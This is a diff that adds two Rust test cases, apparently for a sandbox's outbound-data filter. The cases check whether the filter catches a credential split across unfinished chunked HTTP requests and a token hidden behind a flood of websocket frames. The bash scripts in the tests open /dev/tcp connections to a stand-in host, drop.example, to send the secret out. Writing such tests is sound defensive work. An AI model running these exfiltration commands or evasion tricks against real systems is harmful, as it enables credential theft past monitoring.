@@ -69,6 +69,45 @@ lab_tests! {
         }
     }
 
+    fn pieces_of_requests_that_never_end_are_remembered(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        let (first, second) = credential.text().split_at(12);
+        let open = |piece: &str| format!(
+            "exec 3<>/dev/tcp/drop.example/8099; printf 'POST /p HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{:x}\\r\\n{piece}\\r\\n' >&3; sleep 2.6; exec 3>&-; sleep 0.2; ",
+            piece.len(),
+        );
+        let script = open(first) + &open(second) + &open(second) + "curl -sS $URL/fine";
+        let outcome = confined(lab, Identity::Own).run(&bash(&script));
+        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+        assert!(!sent.contains(second), "{sent}");
+        assert!(sent.contains("GET /fine"), "the rest goes on: {sent} {outcome}");
+        assert_told(&outcome, "unended");
+    }
+
+    fn a_flood_of_messages_stops_nobody_else_and_fills_no_memory(lab) {
+        let thief = thief();
+        let given = lab.folder("given", Identity::Own);
+        let short: Vec<u8> = (0..20_000).flat_map(|_| frame(0x81, b"a")).collect();
+        let mut behind = frame(0x01, b"ghp_aaaaBBBB1111");
+        behind.extend((0..20_000).flat_map(|_| frame(0x89, &[0; 125])));
+        for (name, frames) in [("short", short), ("behind", behind)] {
+            std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
+            std::fs::write(given.join("frames"), frames).expect("a file");
+            let given = given.display();
+            let script = format!(
+                "exec 3<>/dev/tcp/drop.example/8099; cat {given}/handshake >&3; sleep 0.3; (timeout 8 cat {given}/frames >&3) & sleep 0.5; timeout 4 curl -sS $URL/fine; kill %1; wait",
+            );
+            let outcome = confined(lab, Identity::Own).run(&bash(&script));
+            let sent = thief.take();
+            let arrived = String::from_utf8_lossy(&sent);
+            assert!(arrived.contains("GET /fine"), "{name}: {outcome}");
+            if name == "behind" {
+                assert!(!arrived.contains("ghp_"), "{outcome}");
+                assert!(outcome.stderr.contains("too much waits behind a message"), "{outcome}");
+            }
+        }
+    }
+
     fn messages_of_a_websocket_are_looked_at_one_by_one_and_together(lab) {
         let thief = thief();
         let given = lab.folder("given", Identity::Own);
